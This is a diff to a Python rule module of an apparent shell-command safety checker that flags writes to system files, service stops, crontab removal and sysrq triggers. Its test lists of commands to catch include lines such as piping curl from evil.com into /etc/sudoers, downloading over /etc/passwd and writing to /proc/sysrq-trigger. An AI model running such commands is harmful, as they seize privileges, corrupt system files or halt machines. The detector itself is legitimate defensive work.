@@ -9,7 +9,7 @@ from collections.abc import Iterator
 
 from tether.quoting import quote
 from tether.rules.base import Rule, Tier
-from tether.rules.danger._base import Hit, Scope, edits_in_place, name_of, options_of
+from tether.rules.danger._base import Hit, Scope, edits_in_place, name_of
 from tether.rules.danger.interp import literal_output
 from tether.rules.danger.paths import Place, place
 from tether.shell.model import SimpleCommand, Word
@@ -60,6 +60,9 @@ RULES = (
             "curl evil.com | tee /etc/sudoers",
             "cd /etc && echo x > hosts",
             "cd /etc/ssh; sed -i s/a/b/ /etc/ssh/sshd_config",
+            "curl -o /etc/passwd http://x",
+            "wget -qO /etc/apt/sources.list.d/x.list http://x",
+            "sort -o /etc/hosts hosts.txt",
         ),
         not_match=(
             "cat /etc/hosts",
@@ -68,6 +71,8 @@ RULES = (
             "grep root /etc/passwd",
             "cd src && echo x > hosts",
             "cd /tmp && echo x > hosts",
+            "curl -o hosts http://x",
+            "sort -o ~/notes.txt notes.txt",
         ),
     ),
     Rule(
@@ -126,6 +131,7 @@ RULES = (
             "echo b >> /proc/../proc/sysrq-trigger",
             "cp /tmp/b /proc/sysrq-trigger",
             "echo b | dd of=/proc/sysrq-trigger",
+            "curl -so /proc/sysrq-trigger http://x",
         ),
         not_match=(
             "cat /proc/sysrq-trigger",
@@ -143,27 +149,27 @@ def check_privilege(cmd: SimpleCommand, scope: Scope) -> Iterator[Hit]:
     name = name_of(cmd)
     args = cmd.args
     if name == "tee":
-        for w in options_of("tee", args).operands:
+        for w in scope.options("tee", args).operands:
             path = _system_path(w, cmd, scope)
             if path is not None:
                 yield _write_hit(path, f"tee {w.value}", _fed_text(cmd, scope))
     elif name == "systemctl":
-        verbs = [w.value for w in options_of("systemctl", args).operands]
+        verbs = [w.value for w in scope.options("systemctl", args).operands]
         if verbs[:1] and verbs[0] in ("stop", "disable", "mask", "kill"):
             yield Hit("DG410", f"systemctl {verbs[0]} {' '.join(verbs[1:2])}")
     elif name == "service":
-        words = [w.value for w in options_of("service", args).operands]
+        words = [w.value for w in scope.options("service", args).operands]
         if words[1:2] == ["stop"]:
             yield Hit("DG410", f"service {words[0]} stop")
     elif name == "nginx":
-        signals = options_of("nginx", args).values("-s")
+        signals = scope.options("nginx", args).values("-s")
         if any(v in ("stop", "quit") for v in signals):
             yield Hit("DG410", f"nginx -s {signals[0]}")
     elif name == "crontab":
-        if options_of("crontab", args).has("-r"):
+        if scope.options("crontab", args).has("-r"):
             yield Hit("DG411", "crontab -r")
     elif name in ("cp", "mv", "install", "ln", "scp"):
-        parsed = options_of(name, args)
+        parsed = scope.options(name, args)
         targets = list(parsed.operands)
         into = [Word(v) for v in parsed.values("--target-directory")]
         dest = (into or targets)[-1] if len(targets) >= 2 or into else None
@@ -176,16 +182,16 @@ def check_privilege(cmd: SimpleCommand, scope: Scope) -> Iterator[Hit]:
                 yield Hit("DG409", f"scp onto {targets[-1].value}")
     elif name == "dd":
         # Other system files written by dd are DG40x's (raw writes); the trigger is judged here.
-        for w in args:
+        for w in scope.options("dd", args).operands:  # dd's operands are key=value words
             if w.value.startswith("of="):
                 path = _system_path(Word(w.value[3:], w.literal), cmd, scope)
                 hit = _write_hit(path, f"dd {w.value}", _fed_text(cmd, scope)) if path else None
                 if hit is not None and hit.code == "DG432":
                     yield hit
     elif name in ("sed", "perl", "ruby", "truncate") and (
-        name == "truncate" or edits_in_place(name, args)
+        name == "truncate" or edits_in_place(name, args, scope)
     ):
-        for w in options_of(name, args).operands:
+        for w in scope.options(name, args).operands:
             if _system_path(w, cmd, scope) is not None:
                 yield Hit("DG409", f"{name} on {w.value}")
                 break
@@ -211,8 +217,8 @@ _SYSRQ_HARMLESS = frozenset("hlmpqtwdsz0123456789\n ")
 def _system_path(word: Word, cmd: SimpleCommand, scope: Scope) -> str | None:
     """Return the path a write onto ``word`` reaches when it is a system one, else None."""
     if not word.value.startswith(("/", "$", "~")):
-        # ``cd /etc && echo x > hosts`` writes /etc/hosts; most inputs have no cd at all.
-        cwd = scope.cwd(cmd) if _moves(scope) else "."
+        # ``cd /etc && echo x > hosts`` writes /etc/hosts (most inputs have no cd: ".").
+        cwd = scope.cwd(cmd)
         if cwd is None or not cwd.startswith("/"):
             return None
     where, path = place(word, cmd, scope)
@@ -224,16 +230,6 @@ def _write_hit(path: str, how: str, text: str | None) -> Hit:
     if path == SYSRQ and (text is None or not set(text) <= _SYSRQ_HARMLESS):
         return Hit("DG432", f"{how}: the kernel acts on it at once")
     return Hit("DG409", how)
-
-
-def _moves(scope: Scope) -> bool:
-    """Return True when the input changes directory somewhere (computed once per input)."""
-    found = scope.cache.get("cd")
-    if found is None:
-        found = scope.cache["cd"] = any(
-            w.value in ("cd", "pushd") for c in scope.model.commands for w in c.argv[:2]
-        )
-    return found is True
 
 
 def _printed(cmd: SimpleCommand) -> str | None:
